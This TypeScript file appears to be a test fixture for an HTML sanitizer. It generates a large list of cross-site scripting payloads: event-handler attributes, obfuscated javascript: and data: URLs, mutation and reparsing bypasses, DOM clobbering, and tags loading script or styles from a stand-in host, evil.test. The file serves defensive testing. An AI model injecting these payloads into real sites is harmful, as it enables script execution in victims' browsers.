export const hostileHtml: readonly string[] = [...handlers(), ...addresses(), ...reparsed(), ...others()]

function handlers(): string[] {
  const elements = {
    img: 'src=x',
    svg: '',
    video: 'src=x',
    audio: 'src=x',
    details: 'open',
    input: 'autofocus',
    body: '',
    marquee: '',
    object: 'data=x',
    iframe: 'src=x',
    div: 'tabindex=0 autofocus',
    a: 'href=/ autofocus',
  }
  const events = ['error', 'load', 'click', 'focus', 'toggle', 'mouseover', 'pointerenter', 'animationstart', 'start']
  return Object.entries(elements).flatMap(([name, more]) =>
    events.flatMap((event) => [
      `<${name} ${more} on${event}="ran()">text</${name}>`,
      `<${name} ${more} on${event}=ran()>`,
      `<${name.toUpperCase()}/${more.replaceAll(' ', '/')}/ON${event}\n=\n'ran()'`,
      `<${name}\t${more}\fon${event}=&#114;an&lpar;&rpar; x="`,
    ]),
  )
}

function addresses(): string[] {
  const scripts = [
    'javascript:ran()',
    'JaVaScRiPt:ran()',
    ' javascript:ran()',
    '\u0001javascript:ran()',
    'java\nscript:ran()',
    'java&Tab;script&colon;ran()',
    '&#106;&#97;vascript:ran()',
    '&#x6A;avascript&#58;ran()',
    'javascript&#0000058ran()',
    'vbscript:ran()',
    'data:text/html,<script>ran()</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg onload=ran() xmlns=http://www.w3.org/2000/svg>',
    'blob:javascript:ran()',
  ]
  const places = [
    (to: string) => `<a href="${to}">text</a>`,
    (to: string) => `<a href='${to}' target=_self>text</a>`,
    (to: string) => `<area href="${to}">`,
    (to: string) => `<form action="${to}"><button>text</button></form>`,
    (to: string) => `<button formaction="${to}">text</button>`,
    (to: string) => `<iframe src="${to}"></iframe>`,
    (to: string) => `<embed src="${to}">`,
    (to: string) => `<object data="${to}"></object>`,
    (to: string) => `<svg><a xlink:href="${to}"><text y=9>text</text></a></svg>`,
    (to: string) => `<math href="${to}">text</math>`,
    (to: string) => `<img src="${to}" srcset="${to} 2x">`,
    (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
    (to: string) => `<link rel=stylesheet href="${to}">`,
    (to: string) => `<base href="${to}">`,
  ]
  return places.flatMap((place) => scripts.map(place))
}

function reparsed(): string[] {
  return [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    '<svg><style><img src=x onerror=ran()></style></svg>',
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=ran()>"></noscript></desc></svg>',
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=ran()>"></noembed>',
    '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>',
    '<title><p title="</title><img src=x onerror=ran()>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=ran()>"></a>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
    '<table><caption><svg><foreignObject><p></caption></table><img src=x onerror=ran()>',
    '<!--><img src=x onerror=ran()>-->',
    '<!--!><img src=x onerror=ran()>-->',
    '<![CDATA[><img src=x onerror=ran()>]]>',
    '<?xml-stylesheet ><img src=x onerror=ran() ?>',
    '<a href="x" title="&quot;><img src=x onerror=ran()>">text</a>',
    '<p title="<img src=x onerror=ran()>">text</p>',
    '<b <img src=x onerror=ran()//></b>',
    '<<img src=x onerror=ran()>',
    '<img src="x` `<script>ran()</script>"` `>',
    '<scr<script>ipt>ran()</scr</script>ipt>',
    '&lt;script&gt;ran()&lt;/script&gt;',
    '\u003cscript\u003eran()\u003c/script\u003e',
    '＜script＞ran()＜/script＞',
    '<ſcript>ran()</ſcript>',
  ]
}

function others(): string[] {
  return [
    '<script>ran()</script>',
    '<script src=//evil.test/x.js></script>',
    '<script type=module>ran()</script>',
    '<SCRIPT/x>ran()</SCRIPT>',
    '<script>ran()//',
    '<svg><script>ran()</script></svg>',
    '<svg><script href="data:text/javascript,ran()"/></svg>',
    '<svg><animate onbegin=ran() attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:ran() /></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.ran()&lt;/script&gt;"></iframe>',
    '<template shadowrootmode=open><script>ran()</script><img src=x onerror=ran()></template>',
    '<portal src="javascript:ran()" onload=ran()>',
    '<isindex type=image src=1 onerror=ran()>',
    '<style>@import "//evil.test/x.css"; body { background: url(//evil.test/x.png) }</style>',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=ran()>text</b>',
    '<div style="position:fixed;inset:0;background:url(//evil.test/x.png)">text</div>',
    '<div style="width:expression(ran())">text</div>',
    '<p class="Shell-shell" id="root">text</p>',
    '<img name=getElementById><form name=body><input name=parentNode><input name=attributes></form>',
    '<a id=defaultView></a><a id=defaultView name=x href="javascript:ran()">text</a>',
    '<form id=page-data><output id=page-data>{}</output></form>',
    '<dialog open onclose=ran()><form method=dialog><button>text</button></form></dialog>',
    '<button popovertarget=x>text</button><div popover id=x onbeforetoggle=ran()>text</div>',
    '<input type=hidden oncontentvisibilityautostatechange=ran() style=content-visibility:auto>',
    '<video><source onerror=ran() src=x></video>',
    '<audio src=x onloadstart=ran()>',
    '<link rel=preload as=script href=x onerror=ran()>',
    '<meta name=x content=x onload=ran()>',
    '<object type=text/html data="data:text/html,<script>parent.ran()</script>"></object>',
    '<embed type=image/svg+xml src="data:image/svg+xml,<svg onload=ran() xmlns=http://www.w3.org/2000/svg/>">',
    '<math><maction actiontype=statusline xlink:href=javascript:ran()>text</maction></math>',
    '<a href=# onclick=ran() accesskey=x>text</a>',
    '<a href="https://evil.test/" target=_blank rel=opener ping=//evil.test/ping>text</a>',
    '<h1 contenteditable onbeforeinput=ran()>text</h1>',
    '<td background="javascript:ran()">text</td>',
    '<img src="//evil.test/x.png" srcset="//evil.test/y.png 2x" lowsrc=x>',
    '<img src=x:x onerror=&#114&#97&#110()>',
  ]
}
